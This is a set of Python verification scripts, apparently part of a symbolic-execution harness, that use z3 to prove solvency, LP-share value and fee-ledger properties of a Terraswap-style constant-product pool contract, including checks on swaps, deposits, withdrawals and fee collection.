    tot = sum(a for a, _ in A['open'] + A['closed'] + B['open'] + B['closed'])
    bal = c.sym('lp_balance', 128); c.assume(bal >= tot); c.assume(bal < 2**127)
    if st['lp_kind'] == 'native': w.bank.append((Str(INC), Str(st['lp']), bal))
    else: w.cw20.append((Str(st['lp']), Str(INC), bal))
    st.update(A=A, B=B, gw=gw, aw=aw, bw=bw, bal=bal)
    return st


def pos_lists(p, who):
    """([(amount, duration)], [(amount, ts)]) of `who` in the post-state."""
    def get(ns):
        for parts, v in p.world.storage[ns].entries:
            x = deref(parts[0]); x = x.fields[0] if isinstance(x, Agg) else x
            if same(x, who): return [(e.fields[0].fields[0], e.fields[1]) for e in v.items]
        return []
    return get('open_positions'), get('closed_positions')


def weight_of(p, who):
    for parts, v in p.world.storage['address_weight'].entries:
        x = deref(parts[0]); x = x.fields[0] if isinstance(x, Agg) else x
        if same(x, who): return v.fields[0]
    return 0
