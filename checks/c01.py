"""C01 — constant-product pool: solvent, and an LP share never loses value.  One inductive step per pair entry point from
an arbitrary state satisfying the representation invariant, for every native/cw20 asset-kind configuration."""
import sys, os
sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import z3
from lib_pool import *

MIN_LIQ = 1000


def swap_step(ck, prog, cfg, oi):
    kinds = KIND_CFGS[cfg]; ai = 1 - oi
    paths = ck.explore(prog, swap_body(kinds, oi), 'swap.%s.offer%d' % (cfg, oi))
    nok = 0
    for p in paths:
        ck.sample(dict(entry='pair.execute(swap)', cfg=cfg, offer_index=oi, outcome=p.short()))
        if not p.ok: continue
        nok += 1
        st = p.extra['st']; off = p.extra['offer']; b, f = st['b'], st['f']
        eff = effects(resp_of(p), PAIR)
        nf = ledger_after(p, 'collected_protocol_fees')
        A, O = aname(kinds, ai), aname(kinds, oi)
        out_ask = total(eff, 'send', A) + total(eff, 'burn', A)
        out_off = total(eff, 'send', O) + total(eff, 'burn', O)
        R_o, R_a = b[oi] - off - f[oi], b[ai] - f[ai]
        b_a2 = b[ai] - out_ask
        R_o2, R_a2 = b[oi] - out_off - nf[oi], b_a2 - nf[ai]
        sfx = '%s.o%d' % (cfg, oi)
        ck.oblige('C01.swap.solvent.' + sfx, p, z3.Or(out_ask > b[ai], nf[ai] > b_a2, nf[oi] > b[oi] - out_off, R_a2 < 0),
                  'pool can pay what it sends and still holds reserves + pending fees')
        ck.oblige('C01.swap.no_offer_outflow.' + sfx, p, out_off != 0 if is_sym(out_off) else out_off != 0, 'nothing of the offer asset leaves')
        ck.oblige('C01.swap.value.' + sfx, p, R_o2 * R_a2 < R_o * R_a, 'product of reported reserves does not fall (LP supply unchanged)')
        others = [e for e in eff if e.kind not in ('send', 'burn')]
        ck.oblige('C01.swap.lock.' + sfx, p, len(others) != 0, 'a swap emits only transfers/burns of the ask asset (no LP mint/burn)')
        ck.oblige('C01.swap.recipient.' + sfx, p, any(e.kind == 'send' and not same(e.dst, p.extra['receiver']) for e in eff),
                  'proceeds go to the designated receiver only')
    ck.require(nok >= 1, 'no Ok path for swap ' + cfg)


def provide_step(ck, prog, cfg, first):
    kinds = KIND_CFGS[cfg]
    paths = ck.explore(prog, provide_body(kinds, first=first), 'provide.%s.%s' % (cfg, 'first' if first else 'next'))
    nok = 0
    for p in paths:
        ck.sample(dict(entry='pair.execute(provide_liquidity)', cfg=cfg, first=first, outcome=p.short()))
        if not p.ok: continue
        nok += 1
        st = p.extra['st']; d = p.extra['d']; b, f, S = st['b'], st['f'], st['S']
        eff = effects(resp_of(p), PAIR)
        sfx = '%s.%s' % (cfg, 'first' if first else 'next')
        mints = [e for e in eff if e.kind == 'mint']
        pulls = [e for e in eff if e.kind == 'pull']
        outs = [e for e in eff if e.kind in ('send', 'burn', 'burnfrom', 'call', 'other', 'allow')]
        ck.oblige('C01.provide.no_outflow.' + sfx, p, len(outs) != 0, 'a deposit sends nothing out')
        # received = attached native funds (checked by assert_sent_native_token_balance) or a TransferFrom of exactly d_i
        bad = False
        for i in (0, 1):
            if kinds[i] == 'cw20':
                mine = [e for e in pulls if same(e.asset, aname(kinds, i))]
                if len(mine) != 1 or not same(mine[0].src, 'provider') or not same(mine[0].dst, PAIR):
                    bad = True
                else:
                    ck.oblige('C01.provide.pull_exact.%s.a%d' % (sfx, i), p, mine[0].amount != d[i], 'cw20 leg pulled by TransferFrom of exactly the deposit')
        ck.oblige('C01.provide.pulls.' + sfx, p, bad or len(pulls) != sum(1 for k in kinds if k == 'cw20'),
                  'exactly one TransferFrom(sender -> pair) per cw20 leg')
        R = [b[i] - f[i] - (d[i] if kinds[i] == 'native' else 0) for i in (0, 1)]
        if first:
            ok_shape = len(mints) == 2 and same(mints[0].dst, PAIR) and same(mints[1].dst, p.extra['receiver']) \
                and all(same(m.asset, LP) for m in mints)
            ck.oblige('C01.provide.first.shape', p, not ok_shape, 'first deposit: mint MINIMUM_LIQUIDITY to the pair itself, the rest to the receiver')
            if ok_shape:
                share = mints[1].amount
                r = z3.Int('isqrt_spec')
                spec = [r >= 0, r * r <= d[0] * d[1], (r + 1) * (r + 1) > d[0] * d[1]]
                ck.oblige('C01.provide.first.' + cfg, p, z3.Or(mints[0].amount != MIN_LIQ, share != r - MIN_LIQ, share <= 0),
                          'share = isqrt(d0*d1) - 1000 > 0 and 1000 locked', lemmas=spec)
        else:
            ok_shape = len(mints) == 1 and same(mints[0].dst, p.extra['receiver']) and same(mints[0].asset, LP)
            ck.oblige('C01.provide.next.shape.' + cfg, p, not ok_shape, 'subsequent deposit: exactly one mint, to the receiver')
            if ok_shape:
                m = mints[0].amount
                ck.oblige('C01.provide.next.mint.' + cfg, p, z3.Or(m * R[0] > d[0] * S, m * R[1] > d[1] * S),
                          'minted share is at most pro rata on both legs (reserves net of pending fees and of the just-credited deposit)')
                # LP value: per-asset reserves per share do not fall
                ck.oblige('C01.provide.next.value.' + cfg, p, z3.Or((R[0] + d[0]) * S < R[0] * (S + m), (R[1] + d[1]) * S < R[1] * (S + m)),
                          'reserves per LP token do not fall on deposit')
                ck.oblige('C01.provide.next.nonzero_reserves.' + cfg, p, z3.Or(R[0] <= 0, R[1] <= 0), 'accepted only with positive reserves')
    ck.require(nok >= 1, 'no Ok path for provide ' + cfg)


def withdraw_step(ck, prog, cfg):
    kinds = KIND_CFGS[cfg]
    paths = ck.explore(prog, withdraw_body(kinds), 'withdraw.' + cfg)
    nok = 0
    for p in paths:
        ck.sample(dict(entry='pair.execute(receive(withdraw_liquidity))', cfg=cfg, outcome=p.short()))
        if not p.ok: continue
        nok += 1
        st = p.extra['st']; amt = p.extra['amount']; b, f, S = st['b'], st['f'], st['S']
        eff = effects(resp_of(p), PAIR)
        burns = [e for e in eff if e.kind == 'burn' and same(e.asset, LP)]
        ck.oblige('C01.withdraw.burn.' + cfg, p, len(burns) != 1 or burns[0].amount != amt if len(burns) == 1 else True,
                  'exactly the received LP amount is burned')
        extra = [e for e in eff if not ((e.kind == 'send' and any(same(e.asset, aname(kinds, i)) for i in (0, 1))) or (e.kind == 'burn' and same(e.asset, LP)))]
        ck.oblige('C01.withdraw.only_refunds.' + cfg, p, len(extra) != 0, 'only the two refunds and the LP burn are emitted')
        for i in (0, 1):
            out = total(eff, 'send', aname(kinds, i))
            R = b[i] - f[i]
            ck.oblige('C01.withdraw.prorata.%s.a%d' % (cfg, i), p, out * S > amt * R, 'refund at most the pro-rata share of the reported reserve')
            ck.oblige('C01.withdraw.solvent.%s.a%d' % (cfg, i), p, out > b[i] - f[i], 'refund paid from reserves only, pending fees stay')
            ck.oblige('C01.withdraw.value.%s.a%d' % (cfg, i), p, (R - out) * S < R * (S - amt), 'reserves per LP token do not fall on withdrawal')
            ck.oblige('C01.withdraw.recipient.%s.a%d' % (cfg, i), p, any(e.kind == 'send' and not same(e.dst, 'holder') for e in eff), 'refund goes to the LP holder')
    ck.require(nok >= 1, 'no Ok path for withdraw ' + cfg)


def collect_step(ck, prog, cfg):
    kinds = KIND_CFGS[cfg]
    paths = ck.explore(prog, collect_body(kinds), 'collect.' + cfg)
    for p in paths:
        if not p.ok: continue
        st = p.extra['st']; b, f = st['b'], st['f']
        eff = effects(resp_of(p), PAIR); nf = ledger_after(p, 'collected_protocol_fees')
        for i in (0, 1):
            out = total(eff, 'send', aname(kinds, i)) + total(eff, 'burn', aname(kinds, i))
            ck.oblige('C01.collect.reserves.%s.a%d' % (cfg, i), p, z3.Or((b[i] - out) - nf[i] < b[i] - f[i], out > b[i]) if is_sym(out) or is_sym(nf[i]) else ((b[i] - out) - nf[i] < b[i] - f[i]),
                      'fee collection never lowers a reported reserve')
        ck.oblige('C01.collect.lock.' + cfg, p, any(e.kind not in ('send',) for e in eff), 'collect emits transfers only')


def update_fees_step(ck, prog, cfg):
    kinds = KIND_CFGS[cfg]
    paths = ck.explore(prog, update_fees_body(kinds), 'update_fees.' + cfg)
    nok = 0
    for p in paths:
        if not p.ok: continue
        nok += 1
        eff = effects(resp_of(p), PAIR)
        nf = ledger_after(p, 'collected_protocol_fees'); f = p.extra['st']['f']
        ck.oblige('C01.update_fees.reserves.' + cfg, p, z3.Or(nf[0] != f[0], nf[1] != f[1]) if True else False, 'fee change leaves the fee ledger alone')
        ck.oblige('C01.update_fees.no_msgs.' + cfg, p, len(eff) != 0, 'fee change moves no funds')
    ck.require(nok >= 1, 'no Ok path for update_config(pool_fees) ' + cfg)


def roundtrip(ck, prog, cfg):
    """deposit (d0,d1) then immediately withdraw the minted share: out_i <= d_i."""
    kinds = KIND_CFGS[cfg]
    def body(it):
        c = it.ctx
        r1 = provide_body(kinds, first=False, receiver=False, swap_order=False)(it)
        if r1.variant != 'Ok': raise PathPruned()
        st = it.extra['st']; d = it.extra['d']
        eff = effects(r1.fields[0], PAIR)
        m = [e for e in eff if e.kind == 'mint'][0].amount
        # chain: apply the deposit to the world, then withdraw m
        w = it.world
        for i in (0, 1):
            if kinds[i] == 'cw20':
                w.cw20 = [(t, h, (amt + d[i]) if (same(t, aname(kinds, i)) and same(h, PAIR)) else amt) for t, h, amt in w.cw20]
        w.cw20_info[LP]['total_supply'] = st['S'] + m
        hook = it.mkv(PN + 'pair::Cw20HookMsg', 'WithdrawLiquidity')
        msg = it.mkv(XM, 'Receive', it.mk('cw20::Cw20ReceiveMsg', sender=Str('provider'), amount=U128(m), msg=BIN(hook)))
        r2 = run_entry(it, CP + '::contract::execute', mk_deps(), mk_env(it, 10**18), mk_info(LP, []), msg)
        it.extra['m'] = m
        it.scenario = None
        return r2
    paths = ck.explore(prog, body, 'roundtrip.' + cfg, validate=False)
    for p in paths:
        if not p.ok: continue
        d = p.extra['d']; st = p.extra['st']; m = p.extra['m']; b, f, S = st['b'], st['f'], st['S']
        eff = effects(resp_of(p), PAIR)
        R = [b[i] - f[i] - (d[i] if kinds[i] == 'native' else 0) for i in (0, 1)]
        lem = [m * R[0] <= d[0] * S, m * R[1] <= d[1] * S]       # C01.provide.next.mint (discharged in this run)
        for i in (0, 1):
            out = total(eff, 'send', aname(kinds, i))
            ck.oblige('C01.roundtrip.deposit_withdraw.%s.a%d' % (cfg, i), p, out > d[i], 'deposit then withdraw never pays out more than was put in', lemmas=lem)


def direct_withdraw(ck, prog, cfg):
    """the token-factory style WithdrawLiquidity{} message on a pool whose LP token is a cw20: whatever coin is attached, no LP was
    received, so nothing may be paid out (and the pool's own locked LP must not be burned)."""
    kinds = KIND_CFGS[cfg]
    def body(it):
        c = it.ctx
        st = setup_pair(it, kinds)
        common_inv(c, st)
        nf = c.sym('n_funds', 8); 
        funds = []
        k = c.choose([nf == 0, nf == 1, nf == 2], 'funds')
        for i in range(k):
            d = Str(None, sym=c.sym('fund_denom%d' % i)); c.assume(d.ident() != Str('').ident())       # a coin always has a non-empty denom
            funds.append(COIN(d, c.sym('fund_amount%d' % i, 128)))
        it.extra = dict(st=st)
        return enter(it, CP, 'execute', mk_env(it, 10**18), mk_info('anyone', funds), it.mkv(XM, 'WithdrawLiquidity'))
    for p in ck.explore(prog, body, 'direct_withdraw.' + cfg):
        ck.sample(dict(entry='pair.execute(WithdrawLiquidity{}) with a cw20 LP token', cfg=cfg, outcome=p.short()))
        ck.oblige('C01.direct_withdraw.cw20_lp.' + cfg, p, p.ok, 'a direct WithdrawLiquidity{} on a pool with a cw20 LP token is refused whatever coins are attached (no LP was received)')
        if not p.ok: ck.oblige('C01.direct_withdraw.no_write.' + cfg, p, len(p.world.writes) != 0, 'and writes nothing')


def main():
    ck = Check('C01')
    prog = ck.program('terraswap_pair', 'white_whale_std')
    cfgs = ['nn', 'nc', 'cc'] if ck.tier == 'quick' else ['nn', 'nc', 'cn', 'cc']
    for cfg in cfgs:
        for oi in ((0, 1) if (ck.tier == 'thorough' or cfg == 'nc') else (0,)):
            swap_step(ck, prog, cfg, oi)
        provide_step(ck, prog, cfg, first=True)
        provide_step(ck, prog, cfg, first=False)
        withdraw_step(ck, prog, cfg)
    collect_step(ck, prog, 'nc'); update_fees_step(ck, prog, 'nc')
    if ck.tier == 'thorough':
        for cfg in cfgs: roundtrip(ck, prog, cfg)
    else:
        roundtrip(ck, prog, 'nc')
    for cfg in cfgs[:2]: direct_withdraw(ck, prog, cfg)
    ck.bounds.update(assets='2 assets, kinds %s' % cfgs, lp='cw20 LP token', widths='all balances/amounts full u128; fee shares any valid 18-decimal triple',
                     induction='one step from an arbitrary state with pending fees <= balances; histories of any length follow by induction (argument in DESIGN.md)')
    ck.outside += ['token-factory LP tokens (features off)', 'stableswap pair type (see C03)']
    ck.assumptions.append('a cw20 burn/withdraw hook is only triggered with amount <= total LP supply; all-time fee counters < 2^127')
    return ck.finish()


if __name__ == '__main__':
    sys.exit(run_main(main))
