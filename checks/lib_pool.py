"""Shared symbolic world builders for the constant-product / stableswap pair contract."""
import z3
from engine.harness import *

PN = 'white_whale_std::pool_network::'
AI = PN + 'asset::AssetInfo'
AIR = PN + 'asset::AssetInfoRaw'
ASSET = PN + 'asset::Asset'
PAIR = 'pair_contract'
LP = 'lp_token'
NAMES = {'native': ['uluna', 'uusd'], 'cw20': ['token_a', 'token_b']}


def info(it, kind, i):
    if kind == 'native': return it.mkv(AI, 'NativeToken', denom=Str(NAMES['native'][i]))
    return it.mkv(AI, 'Token', contract_addr=Str(NAMES['cw20'][i]))


def info_raw(it, kind, i):
    if kind == 'native': return it.mkv(AIR, 'NativeToken', denom=Str(NAMES['native'][i]))
    return it.mkv(AIR, 'Token', contract_addr=Agg('cosmwasm_std::CanonicalAddr', [Str(NAMES['cw20'][i])]))


def asset(it, kind, i, amount): return it.mk(ASSET, info=info(it, kind, i), amount=U128(amount))


def fee(it, t): return it.mk('white_whale_std::fee::Fee', share=DEC(t))


def valid_fees(c, prefix='fee'):
    """three symbolic 18-decimal fee shares satisfying PoolFee::is_valid (each < 1... sum < 1)"""
    fp, fs, fb = c.sym(prefix + '_protocol', 128), c.sym(prefix + '_swap', 128), c.sym(prefix + '_burn', 128)
    return fp, fs, fb


def setup_pair(it, kinds=('native', 'native'), pair_type='cp', toggles=(True, True, True), fees=None, decimals=(6, 6),
               amp=None):
    """world with a pair holding balances b0,b1, pending protocol fees f0,f1, LP supply S (cw20 LP token)."""
    c = it.ctx; w = it.world; w.contract = PAIR
    b = [c.sym('b0', 128), c.sym('b1', 128)]
    f = [c.sym('f0', 128), c.sym('f1', 128)]
    S = c.sym('S', 128)
    fp, fs, fb = fees if fees is not None else valid_fees(c)
    pt = it.mkv(PN + 'asset::PairType', 'ConstantProduct') if pair_type == 'cp' else it.mkv(PN + 'asset::PairType', 'StableSwap', amp=amp)
    w.item('pair_info', it.mk(PN + 'asset::PairInfoRaw',
                              asset_infos=Agg('array', [info_raw(it, kinds[0], 0), info_raw(it, kinds[1], 1)]),
                              contract_addr=Agg('cosmwasm_std::CanonicalAddr', [Str(PAIR)]),
                              liquidity_token=it.mkv(AIR, 'Token', contract_addr=Agg('cosmwasm_std::CanonicalAddr', [Str(LP)])),
                              asset_decimals=Agg('array', list(decimals)), pair_type=pt))
    w.item('config', it.mk(PN + 'pair::Config', owner=ADDR('owner'), fee_collector_addr=ADDR('collector'),
                           pool_fees=it.mk(PN + 'pair::PoolFee', protocol_fee=fee(it, fp), swap_fee=fee(it, fs), burn_fee=fee(it, fb)),
                           feature_toggle=it.mk(PN + 'pair::FeatureToggle', withdrawals_enabled=toggles[0],
                                                deposits_enabled=toggles[1], swaps_enabled=toggles[2])))
    at = [c.sym('at0', 128), c.sym('at1', 128)]; ab = [c.sym('ab0', 128), c.sym('ab1', 128)]
    for ns, vals in (('collected_protocol_fees', f), ('all_time_collected_protocol_fees', at), ('all_time_burned_fees', ab)):
        w.item(ns, VecV([asset(it, kinds[0], 0, vals[0]), asset(it, kinds[1], 1, vals[1])]))
    for i, k in enumerate(kinds):
        if k == 'native': w.bank.append((Str(PAIR), Str(NAMES['native'][i]), b[i]))
        else: w.cw20.append((Str(NAMES['cw20'][i]), Str(PAIR), b[i]))
    w.cw20_info[LP] = dict(total_supply=S, decimals=6)
    return dict(b=b, f=f, S=S, fees=(fp, fs, fb), at=at, ab=ab)
