"""Shared symbolic world builders for the constant-product / stableswap pair contract."""
import z3
from engine.harness import *

PN = 'white_whale_std::pool_network::'
AI = PN + 'asset::AssetInfo'
AIR = PN + 'asset::AssetInfoRaw'
ASSET = PN + 'asset::Asset'
PAIR = 'pair_contract'
LP = 'lp_token'
NAMES = {'native': ['uluna', 'uusd'], 'cw20': ['token_a', 'token_b']}


def info(it, kind, i):
    if kind == 'native': return it.mkv(AI, 'NativeToken', denom=Str(NAMES['native'][i]))
    return it.mkv(AI, 'Token', contract_addr=Str(NAMES['cw20'][i]))


def info_raw(it, kind, i):
    if kind == 'native': return it.mkv(AIR, 'NativeToken', denom=Str(NAMES['native'][i]))
    return it.mkv(AIR, 'Token', contract_addr=Agg('cosmwasm_std::CanonicalAddr', [Str(NAMES['cw20'][i])]))


def asset(it, kind, i, amount): return it.mk(ASSET, info=info(it, kind, i), amount=U128(amount))


def fee(it, t): return it.mk('white_whale_std::fee::Fee', share=DEC(t))


def valid_fees(c, prefix='fee'):
    """three symbolic 18-decimal fee shares satisfying PoolFee::is_valid (each < 1... sum < 1)"""
    fp, fs, fb = c.sym(prefix + '_protocol', 128), c.sym(prefix + '_swap', 128), c.sym(prefix + '_burn', 128)
    return fp, fs, fb


def setup_pair(it, kinds=('native', 'native'), pair_type='cp', toggles=(True, True, True), fees=None, decimals=(6, 6),
               amp=None):
    """world with a pair holding balances b0,b1, pending protocol fees f0,f1, LP supply S (cw20 LP token)."""
    c = it.ctx; w = it.world; w.contract = PAIR
    b = [c.sym('b0', 128), c.sym('b1', 128)]
    f = [c.sym('f0', 128), c.sym('f1', 128)]
    S = c.sym('S', 128)
    fp, fs, fb = fees if fees is not None else valid_fees(c)
    pt = it.mkv(PN + 'asset::PairType', 'ConstantProduct') if pair_type == 'cp' else it.mkv(PN + 'asset::PairType', 'StableSwap', amp=amp)
    w.item('pair_info', it.mk(PN + 'asset::PairInfoRaw',
                              asset_infos=Agg('array', [info_raw(it, kinds[0], 0), info_raw(it, kinds[1], 1)]),
                              contract_addr=Agg('cosmwasm_std::CanonicalAddr', [Str(PAIR)]),
                              liquidity_token=it.mkv(AIR, 'Token', contract_addr=Agg('cosmwasm_std::CanonicalAddr', [Str(LP)])),
                              asset_decimals=Agg('array', list(decimals)), pair_type=pt))
    w.item('config', it.mk(PN + 'pair::Config', owner=ADDR('owner'), fee_collector_addr=ADDR('collector'),
                           pool_fees=it.mk(PN + 'pair::PoolFee', protocol_fee=fee(it, fp), swap_fee=fee(it, fs), burn_fee=fee(it, fb)),
                           feature_toggle=it.mk(PN + 'pair::FeatureToggle', withdrawals_enabled=toggles[0],
                                                deposits_enabled=toggles[1], swaps_enabled=toggles[2])))
    at = [c.sym('at0', 128), c.sym('at1', 128)]; ab = [c.sym('ab0', 128), c.sym('ab1', 128)]
    for ns, vals in (('collected_protocol_fees', f), ('all_time_collected_protocol_fees', at), ('all_time_burned_fees', ab)):
        w.item(ns, VecV([asset(it, kinds[0], 0, vals[0]), asset(it, kinds[1], 1, vals[1])]))
    for i, k in enumerate(kinds):
        if k == 'native': w.bank.append((Str(PAIR), Str(NAMES['native'][i]), b[i]))
        else: w.cw20.append((Str(NAMES['cw20'][i]), Str(PAIR), b[i]))
    w.cw20_info[LP] = dict(total_supply=S, decimals=6)
    return dict(b=b, f=f, S=S, fees=(fp, fs, fb), at=at, ab=ab)


# ---------------------------------------------------------------------------------------------------------
# explorers: one real entry point call from an arbitrary Inv-state
# ---------------------------------------------------------------------------------------------------------
CP = 'terraswap_pair'
KIND_CFGS = {'nn': ('native', 'native'), 'nc': ('native', 'cw20'), 'cn': ('cw20', 'native'), 'cc': ('cw20', 'cw20')}
XM = PN + 'pair::ExecuteMsg'


def aname(kinds, i): return NAMES[kinds[i]][i]


def common_inv(c, st, attached=(0, 0)):
    """representation invariant of a pair: pending fees are held (net of funds attached to this very call); all-time
    counters are far from 2^128 (they are bounded by the tokens that ever existed)."""
    for i in (0, 1):
        c.assume(st['f'][i] + attached[i] <= st['b'][i])
        c.assume(st['at'][i] < 2**127); c.assume(st['ab'][i] < 2**127)
    fp, fs, fb = st['fees']
    c.assume(fp < E18); c.assume(fs < E18); c.assume(fb < E18); c.assume(fp + fs + fb < E18)


def swap_body(kinds, oi, belief=False, to=True, toggles=(True, True, True), pair_type='cp', amp=None, sender_sym=False, decimals=(6, 6)):
    def body(it):
        c = it.ctx
        st = setup_pair(it, kinds, pair_type, toggles, amp=amp(c) if callable(amp) else amp, decimals=decimals)
        off = c.sym('offer', 128)
        common_inv(c, st, attached=(off, 0) if oi == 0 else (0, off))
        ms = SOME(DEC(c.sym('max_spread', 128)))
        bp = SOME(DEC(c.sym('belief_price', 128))) if belief else NONE()
        to_v = SOME(Str('recv')) if to else NONE()
        env = mk_env(it, 10**18)
        if kinds[oi] == 'native':
            msg = it.mkv(XM, 'Swap', offer_asset=asset(it, kinds[oi], oi, off), belief_price=bp, max_spread=ms, to=to_v)
            inf = mk_info('trader', [COIN(aname(kinds, oi), off)])
        else:
            hook = it.mkv(PN + 'pair::Cw20HookMsg', 'Swap', belief_price=bp, max_spread=ms, to=to_v)
            msg = it.mkv(XM, 'Receive', it.mk('cw20::Cw20ReceiveMsg', sender=Str('trader'), amount=U128(off), msg=BIN(hook)))
            inf = mk_info(aname(kinds, oi), [])
        it.extra = dict(st=st, offer=off, oi=oi, kinds=kinds, receiver='recv' if to else 'trader')
        return enter(it, CP, 'execute', env, inf, msg)
    return body


def provide_body(kinds, first=False, receiver=True, toggles=(True, True, True), slippage=False, pair_type='cp', amp=None, swap_order=True, decimals=(6, 6)):
    def body(it):
        c = it.ctx
        st = setup_pair(it, kinds, pair_type, toggles, amp=amp(c) if callable(amp) else amp, decimals=decimals)
        d = [c.sym('d0', 128), c.sym('d1', 128)]
        att = [d[i] if kinds[i] == 'native' else 0 for i in (0, 1)]
        common_inv(c, st, attached=att)
        if first: c.assume(st['S'] == 0)
        else: c.assume(st['S'] >= 1)
        assets = [asset(it, kinds[0], 0, d[0]), asset(it, kinds[1], 1, d[1])]
        if swap_order: assets.reverse()          # the caller may list the assets in either order
        sl = SOME(DEC(c.sym('slippage', 128))) if slippage else NONE()
        msg = it.mkv(XM, 'ProvideLiquidity', assets=Agg('array', assets), slippage_tolerance=sl,
                     receiver=SOME(Str('recv')) if receiver else NONE())
        funds = [COIN(aname(kinds, i), d[i]) for i in (0, 1) if kinds[i] == 'native']
        it.extra = dict(st=st, d=d, kinds=kinds, receiver='recv' if receiver else 'provider')
        return enter(it, CP, 'execute', mk_env(it, 10**18), mk_info('provider', funds), msg)
    return body


def withdraw_body(kinds, toggles=(True, True, True), pair_type='cp', amp=None, sender=LP):
    def body(it):
        c = it.ctx
        st = setup_pair(it, kinds, pair_type, toggles, amp=amp)
        amt = c.sym('amount', 128)
        common_inv(c, st)
        c.assume(amt <= st['S'])       # the cw20 Send that triggers this hook moved `amount` existing LP tokens
        hook = it.mkv(PN + 'pair::Cw20HookMsg', 'WithdrawLiquidity')
        msg = it.mkv(XM, 'Receive', it.mk('cw20::Cw20ReceiveMsg', sender=Str('holder'), amount=U128(amt), msg=BIN(hook)))
        it.extra = dict(st=st, amount=amt, kinds=kinds)
        return enter(it, CP, 'execute', mk_env(it, 10**18), mk_info(sender, []), msg)
    return body


def collect_body(kinds, sender='anyone'):
    def body(it):
        c = it.ctx
        st = setup_pair(it, kinds)
        common_inv(c, st)
        it.extra = dict(st=st, kinds=kinds)
        return enter(it, CP, 'execute', mk_env(it, 10**18), mk_info(sender, []), it.mkv(XM, 'CollectProtocolFees'))
    return body


def update_fees_body(kinds):
    def body(it):
        c = it.ctx
        st = setup_pair(it, kinds)
        common_inv(c, st)
        nf = [c.sym('new_fee_protocol', 128), c.sym('new_fee_swap', 128), c.sym('new_fee_burn', 128)]
        pf = it.mk(PN + 'pair::PoolFee', protocol_fee=fee(it, nf[0]), swap_fee=fee(it, nf[1]), burn_fee=fee(it, nf[2]))
        msg = it.mkv(XM, 'UpdateConfig', owner=NONE(), fee_collector_addr=NONE(), pool_fees=SOME(pf), feature_toggle=NONE())
        it.extra = dict(st=st, kinds=kinds, new_fees=nf)
        return enter(it, CP, 'execute', mk_env(it, 10**18), mk_info('owner', []), msg)
    return body


def ledger_after(p, name):
    """amounts of a Vec<Asset> fee ledger in the post-state"""
    return [a.fields[1].fields[0] for a in p.world.storage[name].items]
