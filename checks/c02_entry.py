"""C02, entry part: the real swap entry points (native Swap, cw20 Send hook) and the Simulation query hand the kernel exactly the reserves the pool
reports - each balance net of that asset's pending protocol fees, and net of the offer that is already in the pool's balance when the
contract runs - and the offered amount.  The kernel (compute_swap) is replaced by a spy returning a symbolic result; its arguments are the
obligation.  A counterexample is confirmed on the REAL contract by the property's own formula: return + fees of the executed swap (response
attributes / simulation answer) must equal floor(ask_reserve * offer / (offer_reserve + offer)) over those reserves."""
import z3
from lib_pool import *

SCN = 'terraswap_pair::helpers::SwapComputation'


def u_(v):
    v = deref(v)
    while isinstance(v, Agg) and len(v.fields) == 1: v = deref(v.fields[0])
    return v
QM = PN + 'pair::QueryMsg'


def spy(it, a, c):
    x = it.ctx
    if not isinstance(getattr(it, 'extra', None), dict): it.extra = {}
    it.extra['cs_args'] = [u_(a[0]), u_(a[1]), u_(a[2])]
    return OK(it.mk(SCN, return_amount=U128(x.sym('sc_ret', 120)), spread_amount=U128(x.sym('sc_spread', 120)), swap_fee_amount=U128(x.sym('sc_swap', 120)),
                    protocol_fee_amount=U128(x.sym('sc_prot', 120)), burn_fee_amount=U128(x.sym('sc_burn', 120))))


def _state(sc):
    """balances and pending fees of the pool in a runner scenario: {asset name: (balance, pending fee)}"""
    pool = sc['env']['contract']
    bal = {}
    for a, d, x in sc['bank']:
        if a == pool: bal[d] = int(x)
    for t, q, r in sc['smart']:
        if isinstance(q, dict) and 'balance' in q and q['balance'].get('address') == pool: bal[t] = int(r['balance'])
    st = {bytes.fromhex(k).decode('latin1'): v for k, v in sc['storage']}
    fees = {}
    for a in st['collected_protocol_fees']:
        info = a['info']
        nm = info['native_token']['denom'] if 'native_token' in info else info['token']['contract_addr']
        fees[nm] = int(a['amount'])
    return bal, fees


def make_pred(kinds, oi, executed):
    def gross_differs(reals, scs):
        real = reals[-1]['result']; sc = scs[-1]
        if real.get('outcome') != 'ok': return False
        bal, fees = _state(sc)
        O, A = aname(kinds, oi), aname(kinds, 1 - oi)
        try:
            if executed:
                at = {a['key']: a['value'] for a in real['response'].get('attributes', [])}
                off = int(at['offer_amount']); got = sum(int(at[k]) for k in ('return_amount', 'swap_fee_amount', 'protocol_fee_amount', 'burn_fee_amount'))
                op = bal[O] - fees[O] - off
            else:
                d = real['response']['data']; off = int(sc['msg']['simulation']['offer_asset']['amount'])
                got = sum(int(d[k]) for k in ('return_amount', 'swap_fee_amount', 'protocol_fee_amount', 'burn_fee_amount'))
                op = bal[O] - fees[O]
            ap = bal[A] - fees[A]
        except Exception:
            return False
        return got != ap * off // (op + off)
    return gross_differs


def run(ck, prog):
    nice0 = [z3.Int('f0') == 10 ** 7, z3.Int('f1') == 2 * 10 ** 7, z3.Int('offer') == 10 ** 9,
            z3.Int('fee_protocol') == 10 ** 15, z3.Int('fee_swap') == 2 * 10 ** 15, z3.Int('fee_burn') == 10 ** 15, z3.Int('max_spread') == 5 * 10 ** 17, z3.Int('S') == 10 ** 12] + \
           [z3.Int(n) == 7 * 10 ** 8 for n in ('at0', 'at1', 'ab0', 'ab1')]
    nice = nice0 + [z3.Int('b0') == 10 ** 12, z3.Int('b1') == 3 * 10 ** 12]
    for cfg, ois in (('nn', (0, 1)), ('nc', (0, 1))):
        kinds = KIND_CFGS[cfg]
        for oi in ois:
            ai = 1 - oi
            # executed swap
            n = 0
            for p in ck.explore(prog, swap_body(kinds, oi), 'entry.swap.%s.o%d' % (cfg, oi), validate=False, stubs={'terraswap_pair::helpers::compute_swap': spy}):
                if 'cs_args' not in p.extra: continue
                n += 1
                st = p.extra['st']; b, f = st['b'], st['f']; off = p.extra['offer']; a = p.extra['cs_args']
                ck.oblige('C02.entry.swap.reserves.%s.o%d' % (cfg, oi), p, z3.Or(a[0] != b[oi] - off - f[oi], a[1] != b[ai] - f[ai], a[2] != off),
                          'the executed swap is priced on the reserves the pool reports: balance net of pending protocol fees (and of the offer already received), nothing else',
                          native_pred=make_pred(kinds, oi, True), nice=nice0 + [z3.Int('b%d' % oi) == (10 ** 12 if oi == 0 else 3 * 10 ** 12) + 10 ** 9, z3.Int('b%d' % ai) == (10 ** 12 if ai == 0 else 3 * 10 ** 12)])
